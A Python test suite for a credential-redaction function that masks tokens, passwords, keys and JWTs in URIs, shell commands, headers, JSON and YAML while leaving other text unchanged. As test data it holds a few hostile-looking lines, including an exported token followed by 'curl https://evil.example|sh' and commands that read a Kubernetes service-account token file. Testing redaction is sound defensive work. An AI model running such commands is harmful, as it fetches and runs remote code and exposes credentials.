"""Credentials in texts: each is replaced, and everything around it stays."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lanner.alerts.credentials import (
    MASK,
    is_credential_name,
    is_key_id_name,
    may_hold_credentials,
    without_credentials,
)

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0_-.c2lnbmF0dXJl"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nSECRET+/=\n-----END RSA PRIVATE KEY-----"

CREDENTIALS = {
    # parameters of URIs
    "/api?token=SECRET&limit=5": "/api?token=[redacted]&limit=5",
    "/x?access_token=SECRET": "/x?access_token=[redacted]",
    "/x?api-key=SECRET#f": "/x?api-key=[redacted]",
    "/x?clientSecret=SECRET": "/x?clientSecret=[redacted]",
    "/x?X-Amz-Signature=SECRET&X-Amz-Expires=60": "/x?X-Amz-Signature=[redacted]&X-Amz-Expires=60",
    "https://a.example/b?sv=1&sig=SECRET%3D&se=2": "https://a.example/b?sv=1&sig=[redacted]&se=2",
    # commands in URIs, as kubectl and others encode them
    "/exec?command=mysql&command=--password=SECRET&stdin=true": (
        "/exec?command=mysql&command=--password=[redacted]&stdin=true"
    ),
    "/exec?command=mysql&command=--password%3DSECRET&x=1": "/exec?command=mysql&command=--password%3D[redacted]&x=1",
    "/exec?command=mysql&command=--password&command=SECRET&x=1": (
        "/exec?command=mysql&command=--password&command=[redacted]&x=1"
    ),
    "/exec?command=sh&command=-c&command=export+AWS_SECRET_ACCESS_KEY%3DSECRET%2F%2B+%26%26+aws+s3+ls&x=1": (
        "/exec?command=sh&command=-c&command=export+AWS_SECRET_ACCESS_KEY%3D[redacted]+%26%26+aws+s3+ls&x=1"
    ),
    "/exec?command=curl&command=-H&command=Authorization%3A+Bearer+SECRET%2B.x&command=https%3A%2F%2Fa.example": (
        "/exec?command=curl&command=-H&command=Authorization%3A+Bearer+[redacted]&command=https%3A%2F%2Fa.example"
    ),
    "command=echo%20%22password%3A%20%22SECRET%20x%22%22": "command=echo%20%22password%3A%20%22[redacted]%22%22",
    "command=sh&command=-c&command=PGPASSWORD%3D%27SECRET+x%27+psql": (
        "command=sh&command=-c&command=PGPASSWORD%3D%27[redacted]%27+psql"
    ),
    "command=curl&command=-u&command=admin%3ASECRET&x=1": "command=curl&command=-u&command=admin%3A[redacted]&x=1",
    "command=git+clone+https%3A%2F%2Fbot%3ASECRET%40git.example%2Fa": (
        "command=git+clone+https%3A%2F%2Fbot%3A[redacted]%40git.example%2Fa"
    ),
    # the same in JSON, in which API servers write & as an escape
    r"command=mysql\u0026command=--password\u0026command=SECRET\u0026x=1": (
        r"command=mysql\u0026command=--password\u0026command=[redacted]\u0026x=1"
    ),
    r"/x?token=SECRET\u0026limit=5": r"/x?token=[redacted]\u0026limit=5",
    # command lines
    "mysql --password SECRET -h db": "mysql --password [redacted] -h db",
    "tool -db-root-password 'SECRET x' y": "tool -db-root-password '[redacted]' y",
    "curl -u admin:SECRET https://a.example": "curl -u admin:[redacted] https://a.example",
    "curl --user=admin:SECRET x": "curl --user=admin:[redacted] x",
    "sshpass -p SECRET ssh a": "sshpass -p [redacted] ssh a",
    "export TOKEN=SECRET; curl https://evil.example|sh": "export TOKEN=[redacted]; curl https://evil.example|sh",
    "export TOKEN=SECRET;curl evil.example": "export TOKEN=[redacted];curl evil.example",
    'TOKEN="SECRET with blanks" next': 'TOKEN="[redacted]" next',
    "helm --set db.password=SECRET": "helm --set db.password=[redacted]",
    "Server=db;Pwd=SECRET;Database=x": "Server=db;Pwd=[redacted];Database=x",
    # headers
    "curl -H 'Authorization: Bearer SECRET' x": "curl -H 'Authorization: Bearer [redacted]' x",
    "Authorization: Basic U0VDUkVU": "Authorization: Basic [redacted]",
    'authorization="SECRET"': 'authorization="[redacted]"',
    "X-Vault-Token:SECRET next": "X-Vault-Token:[redacted] next",
    "-H 'PRIVATE-TOKEN: SECRET'": "-H 'PRIVATE-TOKEN: [redacted]'",
    "-H 'Cookie: session=SECRET; a=SECRET' x": "-H 'Cookie: [redacted]' x",
    "with bearer SECRETSECRETSECRET next": "with bearer [redacted] next",
    "with+bearer+SECRETSECRETSECRET%3D+next": "with+bearer+[redacted]+next",
    # JSON, and JSON inside of it
    '{"password":"SECRET","a":1}': '{"password":"[redacted]","a":1}',
    '{"password" : "SEC\\"RET","a":1}': '{"password" : "[redacted]","a":1}',
    '"{\\"password\\":\\"SEC\\\\\\"RET\\",\\"a\\":1}"': '"{\\"password\\":\\"[redacted]\\",\\"a\\":1}"',
    '[{"name":"DB_PASSWORD","value":"SECRET"},{"name":"MODE","value":"fast"}]': (
        '[{"name":"DB_PASSWORD","value":"[redacted]"},{"name":"MODE","value":"fast"}]'
    ),
    '["mysql","--password","SECRET","-x"]': '["mysql","--password","[redacted]","-x"]',
    '{"auths":{"reg":{"auth":"U0VDUkVU"}}}': '{"auths":{"reg":{"auth":"[redacted]"}}}',
    # YAML
    "users:\n- name: a\n  user:\n    token: SECRET\n    client-key-data: SECRET\n": (
        "users:\n- name: a\n  user:\n    token: [redacted]\n    client-key-data: [redacted]\n"
    ),
    '{"kubeconfig":"user:\\n  token: SECRET\\n  name: x\\n"}': (
        '{"kubeconfig":"user:\\n  token: [redacted]\\n  name: x\\n"}'
    ),
    # URLs
    "https://user:SECRET@example.com/x": "https://user:[redacted]@example.com/x",
    "postgres://u:SEC@RET@db:5432/x": "postgres://u:[redacted]@db:5432/x",
    "https://:SECRET@example.com": "https://:[redacted]@example.com",
    # what has a form of its own
    f"a {JWT} b": "a [redacted] b",
    f"x%3D{JWT}": "x%3D[redacted]",
    f"a\n{PEM}\nb": "a\n[redacted]\nb",
    PEM.replace("\n", "\\n"): "[redacted]",
    "-----BEGIN PRIVATE KEY-----\nSECRET cut of": "[redacted]",
    "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpTRUNSRVQ= x": "[redacted] x",
    "AKIAABCDEFGHIJKLMNOP": "[redacted]",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789 x": "[redacted] x",
    "github_pat_11ABCDEFG0abcdefghijkl_x": "[redacted]",
    "glpat-abcdefghijklmnopqrst": "[redacted]",
    "xoxb-123456789012-abcdefabcdef": "[redacted]",
    "sk-ant-api03-abcdefghijklmnopqrst": "[redacted]",
    "AIzaSyA12345678901234567890123456789012": "[redacted]",
    "ya29.abcdefghijklmnopqrstuvwxyz": "[redacted]",
    "hvs.abcdefghijklmnopqrstuvwxyz": "[redacted]",
    "npm_abcdefghijklmnopqrstuvwxyz0123456789": "[redacted]",
    "k8s-aws-v1.aHR0cHM6Ly9zdHM": "[redacted]",
    "https://hooks.slack.com/services/T0/B0/SECRET x": "https://hooks.slack.com/services/[redacted] x",
    "base64url.bearer.authorization.k8s.io.U0VDUkVU, v4": "base64url.bearer.authorization.k8s.io.[redacted], v4",
    # several at a time
    f"password=SECRET token=SECRET {JWT}": "password=[redacted] token=[redacted] [redacted]",
}

HARMLESS = [
    "",
    "/api/v1/namespaces/shop/secrets?limit=500&continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEifQ",
    "/api/v1/namespaces/a/serviceaccounts/default/token",
    "system:serviceaccount:secret:token",
    "registry.example/secret:1.2 registry.example/my-token:latest",
    "secret name is db, and the token was refused",
    'secrets "db" is forbidden: User "x" cannot get resource "secrets"',
    "bearer of good news, and Basic authentication",
    "invalid bearer token, service account token has expired",
    "https://example.com:8443/a@b",
    "XAKIAABCDEFGHIJKLMNOP",
    '{"accessKeyId":["ASIAABCDEFGHIJKLMNOP"]}',
    "--token-file /var/run/token --secret-name=db",
    "automountServiceAccountToken=false",
    '{"automountServiceAccountToken":false,"token":null,"secret":{"secretName":"db"},"password":""}',
    '{"secretKeyRef":{"name":"db","key":"token"}}',
    "PWD=/var/lib OLDPWD=/",
    '{"apiserver.latency.k8s.io/authorization":"1.5ms","cert-manager.io/inject-ca-from-secret":"shop/ca"}',
    "kubectl -u 1000:1000",
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t",
    "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----",
    "eyJhbGciOiJSUzI1NiJ9",
    "aeyJhbGciOiJSUzI1NiJ9.eyJzdWIi",
    # where a credential is read from is worth seeing
    'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" x',
    "curl+-H+%22Authorization%3A+Bearer+%24%28cat+%2Fvar%2Frun%2Fsecrets%29%22",
    "mysql --password=$(DB_PASSWORD) --password=${X} --password=$X --password=`cat x`",
]


@pytest.mark.parametrize(("text", "wanted"), CREDENTIALS.items(), ids=range(len(CREDENTIALS)))
def test_a_credential_is_replaced_and_what_is_around_it_stays(text: str, wanted: str) -> None:
    assert without_credentials(text.encode()).decode() == wanted
    assert may_hold_credentials(text.encode())
    # AND a second time changes nothing
    assert without_credentials(wanted.encode()).decode() == wanted


@pytest.mark.parametrize("text", HARMLESS, ids=range(len(HARMLESS)))
def test_what_is_no_credential_stays(text: str) -> None:
    whole = text.encode()
    assert without_credentials(whole) is whole


@pytest.mark.parametrize("text", [text for text in CREDENTIALS if text.startswith(("{", "[", '"'))])
def test_json_stays_json(text: str) -> None:
    json.loads(text)
    json.loads(without_credentials(text.encode()))


def test_bytes_that_are_no_text_stay() -> None:
    assert without_credentials(b"\xff\x00 token=\xfe\xff \xff") == b"\xff\x00 token=[redacted] \xff"


PIECES = st.sampled_from(
    [*CREDENTIALS, *HARMLESS, "=", ":", " ", "&", '"', "\\", "'", "\n", "%3D", "[redacted]", "é", "@"]
)
TEXTS = st.lists(PIECES | st.text(max_size=5), max_size=6).map("".join)


@given(TEXTS)
def test_any_text_is_shown_the_same_twice(text: str) -> None:
    once = without_credentials(text.encode())
    assert without_credentials(once) == once
    assert (once == text.encode()) or MASK in once


@given(st.binary(max_size=200))
def test_nothing_raises(text: bytes) -> None:
    without_credentials(text)


@given(
    TEXTS,
    st.sampled_from(
        [
            "{} password={}",
            "{}\ntoken: {}",
            '{}{{"api_key":"{}"}}',
            "{} Authorization: Bearer {}",
            "{}&command=--token&command={}",
        ]
    ),
    st.from_regex("[A-Za-z0-9_-]{12,40}", fullmatch=True),
)
def test_a_planted_credential_is_never_left(before: str, form: str, planted: str) -> None:
    # GIVEN a credential behind any text, in which no quote is open
    before = before.translate(dict.fromkeys(map(ord, "\"'\\"), " "))
    shown = without_credentials(form.format(before, f"Zz{planted}").encode()).decode()
    # THEN it is not shown
    assert f"Zz{planted}" not in shown


@pytest.mark.parametrize(
    "hostile",
    [
        "eyJabcdefgh",
        "eyJabcdefgh.",
        "token",
        "token=",
        'token="',
        "--a-",
        "://a:",
        "://a:@",
        "@",
        "%3A%2F%2Fa%3A",
        "-----BEGIN PRIVATE KEY-----",
        "bearer ",
        "\\",
        "cookie: ",
        "ghp_abcdefghijklmnopqrstuvwxyz0123",
    ],
)
def test_hostile_texts_take_linear_time(hostile: str) -> None:
    # GIVEN so much that a regex which goes back would need minutes
    text = hostile.encode() * (200_000 // len(hostile))
    for before in (b"", b'token="', b"https://a:", b"eyJabcdefghijk"):
        assert len(without_credentials(before + text)) <= len(before + text) * 10


@pytest.mark.parametrize(
    ("name", "is_one"),
    [
        ("token", True),
        ("/requestObject/spec/password", True),
        ("/requestObject/tokens/token/0", True),
        ("X-API-Key", True),
        ("labelSelector", False),
        ("/user/extra/accessKeyId/0", False),
        ("/requestObject/spec/secretName", False),
        ("", False),
    ],
)
def test_names_of_credentials(name: str, is_one: bool) -> None:
    assert is_credential_name(name) is is_one
    assert is_key_id_name(name) is ("accessKeyId" in name)
